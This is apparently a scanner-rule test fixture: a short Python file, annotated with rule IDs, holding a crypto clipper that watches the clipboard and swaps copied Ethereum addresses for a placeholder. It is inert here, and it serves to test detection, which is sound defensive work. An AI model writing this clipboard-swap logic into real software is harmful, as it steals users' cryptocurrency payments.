# canary-test: path=mypkg/wallet_utils.py artifact=wheel
# A crypto clipper: watch the clipboard, swap a copied address for another.
# Inert: the addresses are all-zero placeholders and watch() is never called.
import re
import time

import pyperclip

# ruleid: CLIPBOARD_CRYPTO_SWAP, crypto_address
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
# ruleid: CLIPBOARD_CRYPTO_SWAP, crypto_address
REPLACEMENT = "0x0000000000000000000000000000000000000000"


def watch():
    while True:
        # ruleid: CLIPBOARD_READ, CLIPBOARD_CRYPTO_SWAP
        text = pyperclip.paste()
        if ETH.match(text):
            # ruleid: CLIPBOARD_CRYPTO_SWAP, clipboard_write
            pyperclip.copy(REPLACEMENT)
        time.sleep(0.5)
# ok: SPYWARE_WITH_UPLOAD, SPYWARE_TO_EXFIL_SERVICE, SPYWARE_AT_IMPORT
